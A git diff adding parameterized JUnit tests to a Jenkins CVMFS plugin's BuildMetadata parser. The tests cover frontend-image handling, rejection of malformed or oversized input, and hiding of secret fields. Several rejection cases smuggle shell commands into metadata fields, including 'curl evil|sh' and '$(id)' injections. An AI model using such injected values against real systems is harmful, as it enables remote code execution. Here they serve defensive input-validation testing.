@@ -1,8 +1,17 @@
 package io.jenkins.plugins.cvmfs.engine.record;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import java.util.Locale;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+import java.util.stream.Stream;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.MethodSource;
 
 class BuildMetadataTest {
     private static final String HEX_A = "8e25010c6bdba910bc50bb703ea5e991b2012f2ceecaf5513b7baf446879af23";
@@ -123,6 +132,78 @@ class BuildMetadataTest {
         assertThat(metadata.configDigest()).isEmpty();
         assertThat(metadata.mediaType()).isEmpty();
         assertThat(metadata.baseImages()).isEmpty();
+    }
+
+    /** The frontend of a line such as {@code # syntax=docker/dockerfile:1@sha256:...}. */
+    @ParameterizedTest
+    @CsvSource({
+        "docker/dockerfile:1, docker/dockerfile@1",
+        "docker/dockerfile, docker/dockerfile@latest",
+        "docker.io/docker/dockerfile:1, docker/dockerfile@1",
+        "docker/dockerfile:1@sha256:%1$s, docker/dockerfile@1?digest=sha256:%1$s&platform=linux%%2Famd64",
+        "docker/dockerfile:1@sha256:%1$s, docker/dockerfile@1?digest=sha256%%3A%1$s",
+        "docker/dockerfile@sha256:%1$s, docker/dockerfile?digest=sha256:%1$s",
+        "docker/dockerfile@sha256:%1$s, docker/dockerfile@sha256:%1$s",
+        "registry.example.org:5000/f:1@sha256:%1$s, registry.example.org%%3A5000/f@1?digest=sha256:%1$s"
+    })
+    void theFrontendIsNoBaseImage(String source, String material) throws Exception {
+        String metadata = "{\"buildx.build.provenance\":{\"materials\":[{\"uri\":\"pkg:docker/"
+                + material.formatted(HEX_A) + "\"},{\"uri\":\"pkg:docker/debian@12\"}],\"invocation\":{\"parameters\":"
+                + "{\"args\":{\"source\":\"" + source.formatted(HEX_A) + "\"}}}}}";
+
+        assertThat(BuildMetadata.read(metadata).baseImages()).containsExactly(new BaseImage("debian:12", null));
+    }
+
+    static Stream<Arguments> whatIsRefused() {
+        return Stream.of(
+                Arguments.of("{\"containerimage.digest\":\"sha256:0; curl evil|sh #\"}", "containerimage.digest"),
+                Arguments.of("{\"containerimage.digest\":\"sha256:" + HEX_A.toUpperCase(Locale.ROOT) + "\"}", "64"),
+                Arguments.of("{\"containerimage.config.digest\":\"x$(id)\"}", "containerimage.config.digest"),
+                Arguments.of("{\"containerimage.descriptor\":{\"mediaType\":\"a b\"}}", "a media type"),
+                Arguments.of("{\"containerimage.descriptor\":{\"platform\":{\"os\":\"a/b\"}}}", "invalid os"),
+                Arguments.of(material("a@%zz", HEX_A), "invalid uri"),
+                Arguments.of(material("A@1", HEX_A), "the name of an image"),
+                Arguments.of(material("a@$(id)", HEX_A), "the name of an image"),
+                Arguments.of(material("a@1", "0; id"), "64 hexadecimal digits"),
+                Arguments.of("{\"a\":" + "[".repeat(2000), "it is not valid JSON"),
+                Arguments.of("{\"containerimage.digest\":\"" + "x".repeat(100_000) + "\"}", "..."));
+    }
+
+    private static String material(String uri, String sha256) {
+        return "{\"containerimage.descriptor\":{},\"buildx.build.provenance\":{\"materials\":[{\"uri\":\"pkg:docker/"
+                + uri + "\",\"digest\":{\"sha256\":\"" + sha256 + "\"}}]}}";
+    }
+
+    @ParameterizedTest
+    @MethodSource("whatIsRefused")
+    void whatIsNotInTheGrammarIsRefused(String metadata, String why) {
+        assertThatThrownBy(() -> BuildMetadata.read(metadata))
+                .isInstanceOf(UnreadableResultException.class)
+                .hasMessageStartingWith("buildx's metadata file cannot be read: ")
+                .hasMessageContaining(why)
+                .satisfies(e -> assertThat(e.getMessage()).hasSizeLessThan(300));
+    }
+
+    @Test
+    void moreBaseImagesThanThereCanBeAreRefused() {
+        String materials = IntStream.range(0, 1001)
+                .mapToObj(i -> "{\"uri\":\"pkg:docker/a@" + i + "\"}")
+                .collect(Collectors.joining(","));
+
+        assertThatThrownBy(
+                        () -> BuildMetadata.read("{\"buildx.build.provenance\":{\"materials\":[" + materials + "]}}"))
+                .hasMessageContaining("expected at most 1000 base images");
+    }
+
+    @Test
+    void whatIsShownIsAListOfNames() throws Exception {
+        assertThat(PublicMetadata.of("{\"auths\":{\"a\":\"secret\"},\"containerimage.buildinfo\":\"secret\","
+                        + "\"containerimage.buildinfo/linux/amd64\":\"secret\",\"buildx.build.warnings\":[\"secret\"],"
+                        + "\"image.name\":\"a:1\",\"buildx.build.ref\":\"r\",\"containerimage.digest\":\"d\"}"))
+                .doesNotContain("secret", "auths", "buildinfo", "warnings")
+                .contains("\"image.name\" : \"a:1\"", "\"buildx.build.ref\"", "\"containerimage.digest\"");
+        assertThatThrownBy(() -> PublicMetadata.of("{\"image.name\":\"" + "x".repeat(70_000) + "\"}"))
+                .hasMessageContaining("larger than 64 KiB");
     }
 
     @Test
